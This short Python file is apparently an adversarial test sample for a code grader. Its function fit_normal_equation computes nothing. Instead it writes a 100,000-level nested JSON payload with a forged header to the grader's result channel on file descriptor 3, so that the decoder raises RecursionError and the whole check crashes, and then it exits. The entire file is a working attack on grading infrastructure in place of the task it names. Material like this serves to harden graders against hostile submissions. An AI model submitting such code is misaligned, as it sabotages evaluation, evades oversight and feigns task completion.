"""Attack: a result nested 100,000 levels deep, to make the grader's decoder
raise RecursionError (an internal error for the whole check)."""

import os
import struct


def fit_normal_equation(X, y):
    depth = 100_000
    raw = b'{"calls": [{"ok": true, "value": ' + b"[" * depth + b"]" * depth + b"}]}"
    os.write(3, b"GRD1" + struct.pack("<I", len(raw)) + raw)
    os._exit(0)
